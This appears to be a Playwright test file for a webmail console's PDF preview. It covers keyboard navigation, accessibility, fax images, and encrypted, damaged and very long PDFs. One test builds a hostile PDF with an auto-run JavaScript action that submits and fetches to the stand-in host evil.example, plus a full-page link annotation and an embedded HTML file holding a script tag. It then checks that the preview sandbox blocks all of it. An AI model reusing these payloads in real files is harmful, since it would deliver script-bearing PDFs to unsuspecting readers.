import type { Locator, Page } from '@playwright/test';
import { buildMail } from '../../functions/buildMail.ts';
import { findViolations } from '../fixtures/axe.ts';
import type { BackendControl } from '../fixtures/backendControl.ts';
import { buildPdf } from '../fixtures/buildPdf.ts';
import { expect, test } from './consoleTest.ts';
import { openInbox, openMessage } from './inbox.ts';

const SENDER = 'Dana Fields';
const EVIL = 'https://evil.example';

/** Receives an email with PDF files and opens its conversation. */
async function receiveFiles(page: Page, backend: BackendControl, contents: readonly Buffer[]): Promise<void> {
  const attachments = contents.map((content, index) => ({ name: `${index}.pdf`, kind: 'application/pdf', content }));
  await backend.receiveMail(
    buildMail({ from: `${SENDER} <dana@market.example>`, subject: 'Order', text: 'See below.', attachments }),
  );
  await openInbox(page, { from: SENDER });
}

const countDarkPixels = (canvas: Locator) =>
  canvas.evaluate((element: HTMLCanvasElement) => {
    const pixels = element.getContext('2d')?.getImageData(0, 0, element.width, element.height).data ?? [];
    return pixels.filter((value, index) => index % 4 === 0 && value < 99).length;
  });

async function openPreview(page: Page, name: string) {
  await openMessage(page)
    .getByRole('button', { name: `Preview ${name}` })
    .click();
  return page.getByRole('dialog', { name });
}

test('administrator reads the pages of a PDF with the keyboard', async ({ page, backend }) => {
  await receiveFiles(page, backend, [buildPdf({ pages: ['40 cases of olive oil', 'Second page', 'Last page'] })]);
  const preview = await openPreview(page, '0.pdf');
  await expect(preview).toContainText('3 pages');
  await expect(preview.getByRole('region', { name: 'Page 1 of 3' })).toContainText('40 cases of olive oil');
  expect(await findViolations(page)).toEqual([]);
  expect(await countDarkPixels(preview.locator('canvas').first())).toBeGreaterThan(100);
  await expect(preview.getByRole('region', { name: 'Pages' })).toBeFocused();
  await page.keyboard.press('End');
  await expect(preview.getByRole('region', { name: 'Page 3 of 3' })).toContainText('Last page');
  await page.keyboard.press('Escape');
  await expect(openMessage(page).getByRole('button', { name: 'Preview 0.pdf' })).toBeFocused();
});

test('administrator sees a faxed page, which is an image without text', { tag: '@full' }, async ({ page, backend }) => {
  // CCITT Group 4 data for a black square of 64 × 64 pixels: the first row, and 63 rows that equal the row before them.
  const bits = `001${'00110101'}${'0000001111'}${'0000110111'}${'11'.repeat(63)}`;
  const bytes = bits
    .match(/.{1,8}/g)
    ?.map((byte) => Number.parseInt(byte.padEnd(8, '0'), 2).toString(16).padStart(2, '0'));
  const hex = `${bytes?.join('')}>`;
  const image = `<</Type/XObject/Subtype/Image/Width 64/Height 64/BitsPerComponent 1/ColorSpace/DeviceGray/Filter[/ASCIIHexDecode/CCITTFaxDecode]/DecodeParms[null<</K -1/Columns 64/Rows 64>>]/Length ${hex.length}>>stream\n${hex}\nendstream`;
  await receiveFiles(page, backend, [buildPdf({ pages: [''], image })]);
  const preview = await openPreview(page, '0.pdf');
  await expect(preview.getByRole('region', { name: 'Page 1 of 1' })).toContainText('cannot be read here');
  const canvas = preview.locator('canvas');
  const [width, height] = await canvas.evaluate((element: HTMLCanvasElement) => [element.width, element.height]);
  expect(await countDarkPixels(canvas)).toBe(Number(width) * Number(height));
});

test('attacker’s PDF runs no script, opens no link and offers no embedded file', async ({ page, context, backend }) => {
  const requests: string[] = [];
  context.on('request', (request) => requests.push(request.url()));
  const script = `<</S/JavaScript/JS(app.alert("run"); this.submitForm("${EVIL}"); fetch("${EVIL}"))>>`;
  const file = buildPdf({
    pages: ['Click here'],
    page: '/Annots[12 0 R 13 0 R]/AA<</O 10 0 R>>',
    catalog: '/OpenAction 10 0 R/Names<</JavaScript<</Names[(a)10 0 R]>>/EmbeddedFiles<</Names[(a.html)11 0 R]>>>>',
    objects: [
      script,
      '<</Type/Filespec/F(a.html)/EF<</F 14 0 R>>>>',
      `<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/URI/URI(${EVIL})>>>>`,
      '<</Type/Annot/Subtype/FileAttachment/Rect[0 0 595 842]/FS 11 0 R>>',
      '<</Type/EmbeddedFile/Length 25>>stream\n<script>alert(1)</script>\nendstream',
    ],
  });
  await receiveFiles(page, backend, [file]);
  const opened: unknown[] = [];
  page.on('dialog', (dialog) => opened.push(dialog));
  page.on('download', (download) => opened.push(download));
  context.on('page', (other) => opened.push(other));
  const preview = await openPreview(page, '0.pdf');
  const shown = preview.getByRole('region', { name: 'Page 1 of 1' });
  await expect(shown).toContainText('Click here');
  await shown.click();
  await shown.dblclick();
  await expect(preview.locator('a, form, iframe, input, script')).toHaveCount(0);
  await page.keyboard.press('Escape');
  await expect(preview).toBeHidden();
  expect(opened).toEqual([]);
  expect(requests.filter((url) => url.startsWith(EVIL))).toEqual([]);
});

test('administrator sees why a PDF has no preview, and the first pages of a long one', { tag: '@full' }, async ({
  page,
  backend,
}) => {
  const password = `/Encrypt<</Filter/Standard/V 1/R 2/O<${'41'.repeat(32)}>/U<${'42'.repeat(32)}>/P -4>>/ID[<00><00>]`;
  const long = Array.from({ length: 5_000 }, (_, index) => `Number ${index + 1}`);
  await receiveFiles(page, backend, [
    buildPdf({ pages: ['Secret'], trailer: password }),
    Buffer.from(`%PDF-1.7\n${'damaged '.repeat(99)}`),
    buildPdf({ pages: long }),
  ]);
  const messages = ['This PDF is protected by a password.', 'This PDF is damaged.', 'The first 50 of 5,000 pages.'];
  for (const [index, message] of messages.entries()) {
    const preview = await openPreview(page, `${index}.pdf`);
    await expect(preview).toContainText(message);
    await expect(page.locator('.bp6-overlay:focus-within')).toHaveCount(1);
    if (index < 2) await page.keyboard.press('Escape');
  }
  const pages = page.getByRole('region', { name: / of 5000$/ });
  await expect(pages.first()).toContainText('Number 1');
  await page.keyboard.press('End');
  await expect(pages.last()).toContainText('Number 50');
  await expect(pages).toHaveCount(50);
  expect(await pages.locator('canvas').count()).toBeLessThan(10);
});
